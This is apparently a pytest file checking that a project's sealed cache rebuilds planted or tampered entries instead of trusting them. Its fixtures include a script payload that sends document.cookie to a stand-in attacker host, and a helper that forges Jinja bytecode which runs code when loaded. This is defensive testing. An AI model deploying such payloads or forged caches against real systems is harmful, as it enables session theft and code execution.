"""Trust no committed cache: a file under .cache/ that this machine did not write (a compiled
template, a rendered form) is never run, inserted or published; it is rebuilt."""

from __future__ import annotations

import shutil
from pathlib import Path

import jinja2
import pytest

from literacy_directory.catalog.directory import catalog_of
from literacy_directory.core import sealedcache
from literacy_directory.core.project import Project
from literacy_directory.core.sealedcache import MAGIC, SealedFolder, cache_key, seal, unseal
from literacy_directory.forms.model import Form, load_forms
from literacy_directory.forms.render import render, render_cached
from literacy_directory.schema.vocabularies import parse_vocabularies
from literacy_directory.site.templating import Templates
from literacy_directory.validate.check import check_project

ROOT = Path(__file__).resolve().parents[1]
HOSTILE_HTML = b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'


@pytest.fixture(autouse=True)
def key_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A key of this test's own (outside its project folder)."""
    path = tmp_path / "state" / "cache.key"
    monkeypatch.setenv(sealedcache.KEY_FILE_VARIABLE, str(path))
    return path


@pytest.fixture
def project(tmp_path: Path) -> Project:
    root = tmp_path / "project"
    shutil.copytree(ROOT / "site_templates", root / "site_templates")
    (root / "content" / "forms").mkdir(parents=True)
    shutil.copy(ROOT / "content" / "forms" / "consent-to-share.yml", root / "content" / "forms")
    return Project(root)


def _form(project: Project) -> Form:
    vocabularies, _ = parse_vocabularies("schemas/vocabularies.csv", (ROOT / "schemas" / "vocabularies.csv").read_text("utf-8"))
    (form,), problems = load_forms(project, vocabularies)
    assert not problems
    return form


def test_a_committed_form_rendering_is_not_inserted(project: Project) -> None:
    form = _form(project)
    cache = project.root / ".cache" / "forms"
    genuine = render_cached(form, "en", "html", cache)
    (entry,) = cache.glob("*.html")
    for planted in (HOSTILE_HTML, MAGIC + b"\0" * 32 + HOSTILE_HTML, entry.read_bytes().replace(genuine[:20], HOSTILE_HTML[:20])):
        entry.write_bytes(planted)  # what `git add -f .cache/forms/...` would bring
        assert render_cached(form, "en", "html", cache) == genuine
        assert unseal(cache_key(project.root), f"{cache.absolute()}/{entry.name}", entry.read_bytes()) == genuine


def test_a_planted_entry_under_a_future_name_is_not_used(project: Project) -> None:
    form = _form(project)
    cache = project.root / ".cache" / "forms"
    first = render_cached(form, "en", "pdf", cache)
    (entry,) = cache.glob("*.pdf")
    name = entry.name
    entry.unlink()
    (cache / name).write_bytes(b"%PDF-1.7 planted")
    assert render_cached(form, "en", "pdf", cache) == first == render(form, "en", "pdf")


def test_a_link_in_the_cache_is_replaced_not_followed(project: Project, tmp_path: Path) -> None:
    form = _form(project)
    cache = project.root / ".cache" / "forms"
    genuine = render_cached(form, "en", "html", cache)
    (entry,) = cache.glob("*.html")
    outside = tmp_path / "outside.html"
    outside.write_bytes(seal(cache_key(project.root), f"{cache.absolute()}/{entry.name}", HOSTILE_HTML))
    entry.unlink()
    entry.symlink_to(outside)
    assert render_cached(form, "en", "html", cache) == genuine
    assert not entry.is_symlink()
    assert unseal(cache_key(project.root), f"{cache.absolute()}/{entry.name}", outside.read_bytes()) == HOSTILE_HTML


def _planted_bytecode(env: jinja2.Environment, template: str, marker: Path) -> tuple[str, bytes]:
    """Jinja's bytecode file for ``template`` (right key, right source checksum) whose code writes
    ``marker``: what an attacker would commit under .cache/templates/."""
    assert env.loader is not None
    source, filename, _ = env.loader.get_source(env, template)
    helper = jinja2.FileSystemBytecodeCache(str(marker.parent))
    bucket = jinja2.bccache.Bucket(env, helper.get_cache_key(template, filename), helper.get_source_checksum(source))
    bucket.code = compile(f"open({str(marker)!r}, 'w').write('ran')", "<planted>", "exec")
    data = bucket.bytecode_to_string()
    return f"{bucket.key}.cache", data


def test_a_committed_compiled_template_is_never_run(project: Project, tmp_path: Path) -> None:
    catalog = catalog_of(check_project(Project(ROOT)))
    assert catalog is not None
    folder = project.root / ".cache" / "templates" / "en"
    marker = tmp_path / "ran.txt"
    templates = Templates(project.templates, catalog, "en", bytecode_dir=folder, globals={"options": None})
    name, planted = _planted_bytecode(templates.env, "glossary.md.j2", marker)
    (folder / name).write_bytes(planted)
    fresh = Templates(project.templates, catalog, "en", bytecode_dir=folder, globals={"options": None})
    assert "<" in fresh.render("glossary.md.j2")
    assert not marker.exists()
    assert (folder / name).read_bytes().startswith(MAGIC)  # rebuilt and sealed


def test_the_control_jinjas_own_cache_would_run_it(project: Project, tmp_path: Path) -> None:
    """Why the seal matters: the same file in Jinja's stock bytecode cache is run."""
    folder = tmp_path / "stock"
    folder.mkdir()
    marker = tmp_path / "ran.txt"
    env = jinja2.Environment(loader=jinja2.FileSystemLoader(project.templates / "pages"))
    name, planted = _planted_bytecode(env, "glossary.md.j2", marker)
    (folder / f"__jinja2_{name}").write_bytes(planted)  # the stock cache's file name
    stock = jinja2.Environment(
        loader=jinja2.FileSystemLoader(project.templates / "pages"), bytecode_cache=jinja2.FileSystemBytecodeCache(str(folder))
    )
    with pytest.raises(Exception):  # noqa: B017 (the planted code defines no template)
        stock.get_template("glossary.md.j2")
    assert marker.read_text(encoding="utf-8") == "ran"


def test_the_key_is_kept_outside_the_project(project: Project, key_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    key = cache_key(project.root)
    assert key_file.read_bytes() == key and len(key) == 32
    assert key_file.stat().st_mode & 0o077 == 0
    assert cache_key(project.root) == key  # kept
    inside = project.root / ".cache" / "cache.key"
    inside.parent.mkdir(parents=True, exist_ok=True)
    inside.write_bytes(b"k" * 32)  # a key a pull request committed
    monkeypatch.setenv(sealedcache.KEY_FILE_VARIABLE, str(inside))
    assert cache_key(project.root) not in (b"k" * 32, key)


def test_an_entry_is_bound_to_its_name(project: Project) -> None:
    entries = SealedFolder(project.root / ".cache" / "x", project.root)
    entries.write("a.html", b"for a")
    (entries.folder / "b.html").write_bytes((entries.folder / "a.html").read_bytes())
    assert entries.read("a.html") == b"for a"
    assert entries.read("b.html") is None
    assert entries.read("missing.html") is None
